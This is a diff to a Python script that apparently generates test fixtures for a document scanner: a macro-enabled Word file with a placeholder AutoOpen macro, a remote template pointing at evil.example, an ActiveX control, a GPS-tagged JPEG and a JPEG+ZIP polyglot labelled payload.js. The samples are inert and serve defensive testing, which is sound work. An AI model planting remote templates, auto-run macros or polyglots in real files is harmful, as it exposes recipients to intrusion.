@@ -42,9 +42,15 @@ def package(path, parts):
             z.writestr(name, data)
 
 
-# A Word document with a macro, a remote template and a DDEAUTO field.
+# A JPEG with GPS and a comment; a JPEG+ZIP polyglot; a JPEG named .pdf.
+photo = os.path.join(d, "photo.jpg")
+subprocess.run(["vips", "black", photo, "64", "48"], check=True)
+subprocess.run(["exiftool", "-q", "-overwrite_original", "-GPSLatitude=35.68", "-GPSLatitudeRef=N",
+                "-GPSLongitude=139.76", "-GPSLongitudeRef=E", "-Comment=secret place", photo], check=True)
+jpeg = open(photo, "rb").read()
+# A Word document with a macro, a remote template, a DDEAUTO field and a photo with GPS.
 package("見積書.docm", {
-    "[Content_Types].xml": types([("bin", "application/vnd.ms-office.vbaProject")], [
+    "[Content_Types].xml": types([("bin", "application/vnd.ms-office.vbaProject"), ("jpg", "image/jpeg")], [
         ("/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
         ("/word/settings.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml")]),
     "_rels/.rels": rels([("rId1", "officeDocument", "word/document.xml", False)]),
@@ -54,7 +60,8 @@ package("見積書.docm", {
         '<w:p><w:hyperlink r:id="rId9"><w:r><w:t>リンク</w:t></w:r></w:hyperlink></w:p></w:body></w:document>',
     "word/_rels/document.xml.rels": rels([
         ("rId1", "vbaProject", "vbaProject.bin", False), ("rId2", "settings", "settings.xml", False),
-        ("rId9", "hyperlink", "https://example.jp/", True)]),
+        ("rId9", "hyperlink", "https://example.jp/", True), ("rId4", "image", "media/image1.jpg", False)]),
+    "word/media/image1.jpg": jpeg,
     "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Sub AutoOpen()" * 50,
     "word/settings.xml": HEAD + f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/></w:settings>',
     "word/_rels/settings.xml.rels": rels([("rId1", "attachedTemplate", "http://evil.example/template.dotm", True)]),
@@ -93,12 +100,6 @@ package("説明.pptx", {
     "ppt/activeX/activeX1.xml": HEAD + '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>',
 })
 
-# A JPEG with GPS and a comment; a JPEG+ZIP polyglot; a JPEG named .pdf.
-photo = os.path.join(d, "photo.jpg")
-subprocess.run(["vips", "black", photo, "64", "48"], check=True)
-subprocess.run(["exiftool", "-q", "-overwrite_original", "-GPSLatitude=35.68", "-GPSLatitudeRef=N",
-                "-GPSLongitude=139.76", "-GPSLongitudeRef=E", "-Comment=secret place", photo], check=True)
-jpeg = open(photo, "rb").read()
 zbuf = io.BytesIO()
 with zipfile.ZipFile(zbuf, "w") as z:
     z.writestr("payload.js", "WScript.Shell")
